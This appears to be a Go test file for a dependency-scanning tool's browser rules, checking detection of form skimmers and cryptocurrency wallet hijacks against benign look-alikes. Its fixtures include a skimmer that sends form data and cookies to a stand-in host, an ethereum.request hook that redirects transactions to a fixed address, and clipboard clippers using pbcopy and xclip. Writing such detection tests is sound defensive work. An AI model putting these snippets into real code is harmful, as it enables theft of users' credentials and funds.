package browser

import (
	"strings"
	"testing"

	"github.com/depfence/depfence/internal/finding"
	rt "github.com/depfence/depfence/internal/rules/rulestest"
)

func TestFormSkimmer(t *testing.T) {
	rt.Check(t, FormSkimmer{}, []rt.Case{
		{"skimmer", map[string]string{"index.js": `for (var i = 0; i < document.forms.length; i++) document.forms[i].addEventListener("submit", function () {
  var l = document.createElement("link"); l.rel = "prefetch"; l.href = "https://metrics.example.invalid/c?d=" + btoa(data + document.cookie); document.head.appendChild(l) })`}, finding.SeverityCritical},
		{"form_library", map[string]string{"index.js": `export function values() { return Array.from(document.forms[0].elements).map(e => e.value) }`}, finding.SeverityNone},
	})
}

func TestWalletHijack(t *testing.T) {
	rt.Check(t, WalletHijack{}, []rt.Case{
		{"fetch_hook", map[string]string{"index.js": `const eth = new RegExp("0x[a-fA-F0-9]{40}"), btc = new RegExp("(1|3|bc1)[a-zA-HJ-NP-Z0-9]{25,39}");
const orig = window.fetch; window.fetch = async (...a) => swap(await orig(...a))`}, finding.SeverityCritical},
		{"clipboard_clipper", map[string]string{"index.js": `const clip=require("clipboardy");const eth=new RegExp("0x[a-fA-F0-9]{40}"),btc=new RegExp("(1|3|bc1)[a-zA-HJ-NP-Z0-9]{25,39}");setInterval(()=>clip.writeSync(swap(clip.readSync())),500)`}, finding.SeverityCritical},
		// one address pattern, a hook on the wallet and the attacker's
		// address to swap in (the 2025 chalk/debug payload's shape)
		{"ethereum_swap", map[string]string{"index.js": `const re = /0x[a-fA-F0-9]{40}/g;
if (window.ethereum) { const req = window.ethereum.request; window.ethereum.request = async (x) => { if (x.method === "eth_sendTransaction") x.params[0].to = "0xFc4a4858bafef54D1b1d7697bfb5c52F4c166976"; return req(x) } }`}, finding.SeverityCritical},
		// a wallet library: a validator and a contract address, no hook
		{"wallet_library", map[string]string{"index.js": `const re = /0x[a-fA-F0-9]{40}/; export const WETH = "0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2"; export const valid = s => re.test(s)`}, finding.SeverityNone},
		// the same swap appended to a bundle: the address sits by the hook
		{"bundle_swap", map[string]string{"index.js": strings.Repeat("var a = b + c;\n", 40000) + `const re = /0x[a-fA-F0-9]{40}/g;
if (window.ethereum) { const req = window.ethereum.request; window.ethereum.request = async (x) => { x.params[0].to = "0xFc4a4858bafef54D1b1d7697bfb5c52F4c166976"; return req(x) } }`}, finding.SeverityCritical},
		// a bundle whose provider shim and token list are far apart
		{"bundle_apart", map[string]string{"index.js": `export const WETH = "0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2"; const re = /0x[a-fA-F0-9]{40}/;` + strings.Repeat("var a = b + c;\n", 40000) +
			`window.ethereum = provider;`}, finding.SeverityNone},
		{"address_validator", map[string]string{"index.js": `const eth = /0x[a-fA-F0-9]{40}/; export const valid = s => eth.test(s)`}, finding.SeverityNone},
		// a Node clipper writes through the system's clipboard tool
		{"pbcopy_clipper", map[string]string{"index.js": `const { execSync } = require("child_process");
setInterval(() => { const c = execSync("pbpaste").toString(); if (/^0x[a-fA-F0-9]{40}$/.test(c)) execSync("pbcopy", { input: "0x000000000000000000000000000000000000dEaD" }) }, 500)`}, finding.SeverityCritical},
		{"xclip_clipper", map[string]string{"index.js": `const cp = require("child_process"); const eth = new RegExp("0x[a-fA-F0-9]{40}"), btc = new RegExp("(1|3|bc1)[a-zA-HJ-NP-Z0-9]{25,39}");
setInterval(() => cp.execSync("xclip -selection clipboard", { input: swap(cp.execSync("xclip -selection clipboard -o").toString()) }), 500)`}, finding.SeverityCritical},
		// a clipboard library with an address validator elsewhere: no swap
		{"clipboard_library", map[string]string{"index.js": `const cp = require("child_process"); exports.write = t => cp.execSync("pbcopy", { input: t }); exports.read = () => cp.execSync("pbpaste").toString()`}, finding.SeverityNone},
		{"xclip_reader", map[string]string{"index.js": `const cp = require("child_process"); const re = /0x[a-fA-F0-9]{40}/; const addr = "0x000000000000000000000000000000000000dEaD"; const t = cp.execSync("xclip -selection clipboard -o").toString(); console.log(re.test(t), addr)`}, finding.SeverityNone},
	})
}
